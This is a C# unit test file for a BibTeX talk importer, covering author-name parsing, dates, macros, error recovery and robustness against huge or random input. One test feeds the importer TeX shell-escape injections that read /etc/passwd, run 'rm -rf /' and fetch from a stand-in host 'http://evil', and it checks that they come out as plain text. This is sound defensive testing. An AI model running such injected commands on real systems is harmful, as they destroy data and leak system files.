using System.Text;
using TalkExport.Core.Importing;
using TalkExport.Core.Model;
using TalkExport.Exporters.BibTeX.Importing;
using TalkExport.Exporters.BibTeX.Reading;

namespace TalkExport.Exporters.Tests.Importing;

/// <summary>The bibtex importer on hand-written .bib text as other programs write it, and on hostile input.</summary>
public sealed class BibTeXImporterTests
{
    private static ImportBatch Import(string text) =>
        new BibTeXImporter().Read(new ImportSource("cv.bib", text), TestContext.Current.CancellationToken);

    [Theory]
    [InlineData("talks.bib", true)]
    [InlineData("x/TALKS.BIB", true)]
    [InlineData("a.bibtex", true)]
    [InlineData("a.BibTeX", true)]
    [InlineData("a.json", false)]
    [InlineData("bib", false)]
    public void Recognises_ByExtension(string path, bool expected) =>
        Assert.Equal(expected, new BibTeXImporter().Recognises(path, "@misc{".AsSpan()));

    [Fact]
    public void Read_BiblatexTalk_AllFields()
    {
        const string bib = """
            % a comment line
            @string{conf = "Conference on {N}eural Information"}

            @unpublished{mogren2020,
              author    = {Mogren, Olof and van der Berg, Anna and King, Jr., Martin and {Research Institutes of Sweden} and Ana {de la Cruz} and Plato},
              title     = {Uncertainty in {Deep} Learning: {G}\"{o}del's \emph{view}},
              type      = {Invited talk},
              eventtitle = conf # { 2020},
              eventdate = {2020-12-06/2020-12-12},
              date      = {2020-11-05},
              venue     = {Vancouver, Canada},
              url       = {https://example.org/talks/uncertainty},
              addendum  = {Slides: \url{https://example.org/s.pdf}; Video: \url{https://youtu.be/x;y}; Code: \url{https://github.com/o/c}},
              keywords  = {machine learning, uncertainty; Bayes},
              langid    = {ngerman},
              abstract  = {First paragraph
                spans lines.

                Second --- with \textbf{bold}.},
            }
            """;
        var batch = Import(bib);

        Assert.Empty(batch.Diagnostics);
        var talk = Assert.Single(batch.Talks);
        Assert.Equal("Uncertainty in Deep Learning: Gödel's view", talk.Title);
        Assert.Equal(new TalkDate(2020, 12, 6), talk.Date);
        Assert.Equal(new TalkDate(2020, 12, 12), talk.EndDate);
        Assert.Equal(["Olof Mogren", "Anna van der Berg", "Martin King, Jr.", "Research Institutes of Sweden", "Ana de la Cruz", "Plato"], talk.Authors.Select(a => a.Name));
        Assert.Equal(("van der", "Berg", "Anna"), (talk.Authors[1].Particle, talk.Authors[1].Family, talk.Authors[1].Given));
        Assert.Equal("Jr.", talk.Authors[2].Suffix);
        Assert.Equal("Research Institutes of Sweden", talk.Authors[3].Literal);
        Assert.Equal(TalkKind.Invited, talk.Kind);
        Assert.Equal("Conference on Neural Information 2020", talk.Venue);
        Assert.Equal("Vancouver, Canada", talk.Location);
        Assert.Equal("https://example.org/talks/uncertainty", talk.Links.Page);
        Assert.Equal("https://example.org/s.pdf", talk.Links.Slides);
        Assert.Equal("https://youtu.be/x;y", talk.Links.Video);
        Assert.Equal("https://github.com/o/c", talk.Links.Code);
        Assert.Null(talk.Links.Event);
        Assert.Equal(["machine learning", "uncertainty", "Bayes"], talk.Tags);
        Assert.Equal("de", talk.Language);
        Assert.Equal("First paragraph spans lines.\n\nSecond \u2014 with bold.", talk.Abstract);
        Assert.Equal(4, talk.Source.Line);
        Assert.Equal("cv.bib", talk.Source.Path);
        Assert.StartsWith("@unpublished{mogren2020,", talk.BibTeX, StringComparison.Ordinal);
        Assert.EndsWith("Second --- with \\textbf{bold}.},\n}", talk.BibTeX, StringComparison.Ordinal);
        Assert.Equal("", talk.Key);
    }

    [Fact]
    public void Read_ClassicBibTeX_YearMonthDayHowpublishedNote()
    {
        const string bib = """
            @misc{a,
              author       = "Doe, Jane",
              title        = "Seminar on {Graphs}",
              howpublished = {Talk, Learning Machines Seminars, RISE, Gothenburg},
              year         = 2021,
              month        = mar,
              day          = {9},
              url          = {https://example.org/graphs.pdf},
              note         = {Event: \url{https://rise.se/lms}; Joint work with J. Smith}
            }
            @inproceedings{b, title = {A paper}, booktitle = {Proc. NeurIPS}, year = {2019}, month = {Dec.}, address = {Vancouver}}
            @misc{c, title = {Keynote on X}, howpublished = {\url{https://x.org/k}}, date = {2022}}
            @lecture{d, title = {Guest lecture}, organization = {KTH}, year = {2023}, month = {sept}}
            @talk{e, title = {Poster: results}, year = {2024}}
            @misc{f, title = {Invited talk at MIT}, howpublished = {Invited talk at MIT}, year = {2024}}
            @article{g, title = {A journal paper}, journal = {J}, year = {2020}}
            @misc{h, title = {Attended}, type = {Attendance}, year = {2020}}
            """;
        var batch = Import(bib);

        Assert.Equal(2, batch.NotTalks);
        Assert.Equal([1, 11, 12, 13, 14, 15], batch.Talks.Select(t => t.Source.Line));
        var a = batch.Talks[0];
        Assert.Equal(new TalkDate(2021, 3, 9), a.Date);
        Assert.Equal(TalkKind.Talk, a.Kind);
        Assert.Equal("Learning Machines Seminars, RISE, Gothenburg", a.Venue);
        Assert.Null(a.Location);
        Assert.Equal("https://example.org/graphs.pdf", a.Links.Slides);
        Assert.Null(a.Links.Page);
        Assert.Equal("https://rise.se/lms", a.Links.Event);
        Assert.Equal("Jane", a.Authors[0].Given);
        Assert.Equal("Doe", a.Authors[0].Family);

        var b = batch.Talks[1];
        Assert.Equal((TalkKind.Contributed, "Proc. NeurIPS", "Vancouver", new TalkDate(2019, 12)), (b.Kind, b.Venue, b.Location, b.Date!.Value));
        Assert.Empty(b.Authors);
        var c = batch.Talks[2];
        Assert.Equal((TalkKind.Keynote, "https://x.org/k", (string?)null, new TalkDate(2022)), (c.Kind, c.Links.Page, c.Venue, c.Date!.Value));
        var d = batch.Talks[3];
        Assert.Equal((TalkKind.Lecture, "KTH", new TalkDate(2023, 9)), (d.Kind, d.Institution, d.Date!.Value));
        Assert.Equal(TalkKind.Poster, batch.Talks[4].Kind);
        Assert.Equal((TalkKind.Invited, "Invited talk at MIT"), (batch.Talks[5].Kind, batch.Talks[5].Venue));

        // The note's free text is lost, said once for the file.
        var lost = ImportTestSites.SingleDiagnostic(batch, ImportDiagnosticCodes.FieldLost, 1);
        Assert.Contains("Joint work with J. Smith", lost.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("date = {2020-02-30}", "date")]
    [InlineData("date = {soon}", "date")]
    [InlineData("eventdate = {2020-03-05/2020-03-01}", "eventdate")]
    [InlineData("year = {20x0}", "year")]
    [InlineData("year = {2020}, month = {Foo}", "month")]
    [InlineData("year = {2021}, month = {2}, day = {29}", "not a date")]
    [InlineData("month = {jan}", "no year")]
    public void Read_DateThatIsNotOne_ErrorAtItsLine(string dateFields, string said)
    {
        var batch = Import($"@misc{{ok1, title = {{Fine}}, year = 2020}}\n\n@misc{{bad,\n  title = {{T}}, {dateFields}}}\n@misc{{ok2, title = {{Also fine}}}}\n");

        Assert.Equal(["Fine", "Also fine"], batch.Talks.Select(t => t.Title));
        var error = ImportTestSites.SingleDiagnostic(batch, ImportDiagnosticCodes.UnreadableEntry, 3);
        Assert.Contains(said, error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Read_OpenRangeAndEdtfMarks()
    {
        var batch = Import("@misc{a, title={A}, date={2020-05/}}\n@misc{b, title={B}, date={2021-06-01T10:00/2021-06-02~}}\n@misc{c, title={C}, eventdate={2022?}, date={2019}}");
        Assert.Equal([(new TalkDate(2020, 5), (TalkDate?)null), (new TalkDate(2021, 6, 1), new TalkDate(2021, 6, 2)), (new TalkDate(2022), null)], batch.Talks.Select(t => (t.Date!.Value, t.EndDate)));
    }

    [Fact]
    public void Read_EntriesWithoutTitle_ErrorAtTheirLines()
    {
        var batch = Import("@misc{a, title = {}}\n@misc{b, author = {X, Y}, year = 2020}\n@misc{c, title = { {} ~ }}\n@misc{d, title = {Kept}}\n");

        Assert.Equal("Kept", Assert.Single(batch.Talks).Title);
        Assert.Equal([1, 2, 3], batch.Diagnostics.Select(d => d.Line));
        Assert.All(batch.Diagnostics, d => Assert.Contains("no title", d.Message, StringComparison.Ordinal));
    }

    [Fact]
    public void Read_UnclosedEntryInTheMiddle_ErrorAtItsLineAndLaterEntriesRead()
    {
        const string bib = """
            @misc{one, title = {One}, year = 2020}

            @misc{two,
              title = {Two is never closed,
              year = 2021

              @misc{three, title = {Three}, year = 2022}
            @misc{four, title = {Four} year = 2023}
            @misc{five, title = {Five}, year = 2024}
            @misc{six, title = {Six}, year = 2025
            """;
        var batch = Import(bib);

        Assert.Equal(["One", "Three", "Five"], batch.Talks.Select(t => t.Title));
        Assert.Equal([7, 9], batch.Talks.Skip(1).Select(t => t.Source.Line));
        Assert.Equal([3, 8, 10], batch.Diagnostics.Select(d => d.Line));
        Assert.All(batch.Diagnostics, d => Assert.Equal((DiagnosticSeverity.Error, ImportDiagnosticCodes.UnreadableEntry), (d.Severity, d.Code)));
        Assert.Contains("line 4", batch.Diagnostics[0].Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Read_TeXInjection_HarmlessPlainText()
    {
        const string bib = """
            @misc{x,
              title = {\input{/etc/passwd}},
              author = {\write18{rm -rf /} and Doe, \catcode`\^^M=13 Jane},
              howpublished = {\immediate\write18{curl http://evil}},
              note = {\openout\x=/tmp/x},
              year = 2020
            }
            """;
        var batch = Import(bib);

        var talk = Assert.Single(batch.Talks);
        Assert.Equal("/etc/passwd", talk.Title);
        Assert.Equal("18curl http://evil", talk.Venue);
        Assert.All(talk.Authors, a => Assert.DoesNotContain('\\', a.Name));
        Assert.DoesNotContain('\\', talk.Venue!);
    }

    [Fact]
    public void Read_TenThousandEntries_AllRead()
    {
        var bib = new StringBuilder();
        for (var i = 0; i < 10_000; i++)
        {
            bib.Append("@misc{k").Append(i).Append(",\n  author = {Doe, Jane and Sm{\\'\\i}th, J.},\n  title = {Talk number ").Append(i)
                .Append(" on {GANs} and G{\\\"o}del},\n  howpublished = {Seminar, Dept.\\ of {CS}, Uppsala},\n  year = {2020},\n  month = jun\n}\n\n");
        }

        var batch = Import(bib.ToString());

        Assert.Equal(10_000, batch.Talks.Count);
        Assert.Empty(batch.Diagnostics);
        Assert.Equal("Talk number 9999 on GANs and Gödel", batch.Talks[^1].Title);
        Assert.Equal(1 + (9_999 * 8), batch.Talks[^1].Source.Line);
        Assert.Equal("Smíth", batch.Talks[0].Authors[1].Family);
    }

    [Fact]
    public void Read_TenThousandBrokenEntries_AllReported()
    {
        var bib = new StringBuilder();
        for (var i = 0; i < 10_000; i++)
        {
            bib.Append("@misc{k").Append(i).Append(", title = {never closed\n");
        }

        var batch = Import(bib.ToString());

        Assert.Equal(10_000, batch.Diagnostics.Count);
        Assert.Equal(10_000, batch.Diagnostics[^1].Line);
    }

    [Fact]
    public void Read_MacroDoublingItself_ErrorNotMemory()
    {
        var bib = new StringBuilder("@string{a = {xxxxxxxx}}\n");
        for (var i = 0; i < 60; i++)
        {
            bib.Append("@string{a = a # a}\n");
        }

        bib.Append("@string{loop = loop # loop}\n@misc{k, title = a # loop, year = 2020}\n@misc{m, title = {After}}\n");
        var batch = Import(bib.ToString());

        Assert.Equal("After", Assert.Single(batch.Talks).Title);
        Assert.NotEmpty(batch.Diagnostics);
        Assert.All(batch.Diagnostics, d => Assert.Equal(ImportDiagnosticCodes.UnreadableEntry, d.Code));
    }

    [Fact]
    public void Read_HugeBraceNesting_DoesNotCrash()
    {
        var deep = new string('{', 500_000) + "Deep" + new string('}', 500_000);
        var batch = Import($"@misc{{a, title = {deep}, author = {deep}, year = 2020}}\n@misc{{b, title = {{{new string('{', 100_000)}}}}}\n@misc{{c, title = {{C}}}}");

        Assert.Equal(["Deep", "C"], batch.Talks.Select(t => t.Title));
        Assert.Equal("Deep", batch.Talks[0].Authors[0].Name);
        Assert.Equal(2, Assert.Single(batch.Diagnostics).Line);
    }

    [Fact]
    public void Reader_Strict_StillThrowsAtTheFirstMalformedEntry()
    {
        var e = Assert.Throws<BibTeXSyntaxException>(() => BibTeXFileReader.Read("@misc{a, title = {A}}\n@misc{b, title = {B}\n@misc{c, title = {C}}"));
        Assert.Equal(3, e.Line);
    }

    [Fact]
    public void Reader_Recovering_KeepsEachEntrysText()
    {
        const string bib = "junk @ text\n  @misc{a, title = {A}}  trailing\n@comment{x}\n@misc(b, title = \"B\")\n";
        var reading = BibTeXFileReader.ReadRecovering(bib);

        Assert.Empty(reading.Errors);
        Assert.Equal(["@misc{a, title = {A}}", "@misc(b, title = \"B\")"], reading.Entries.Select(e => e.Text));
        Assert.Equal([2, 4], reading.Entries.Select(e => e.Line));
    }

    // Random text from TeX's and BibTeX's special characters: never an exception, every talk titled.
    [Fact]
    public void Read_RandomBibLikeText_NeverThrows()
    {
        const string alphabet = "@{}()\\\"'`^~=.,#%$-_ \naeioumisctitleyeardatAuthorand&uvHrckdbt0123456789/";
        var random = new Random(8501);
        for (var run = 0; run < 3_000; run++)
        {
            var text = new StringBuilder("@misc{k, title = {");
            var length = random.Next(1, 200);
            for (var i = 0; i < length; i++)
            {
                text.Append(alphabet[random.Next(alphabet.Length)]);
            }

            var batch = Import(text.ToString());
            Assert.All(batch.Talks, t => Assert.False(string.IsNullOrWhiteSpace(t.Title)));
            _ = TeXText.Decode(text.ToString());
        }
    }
}
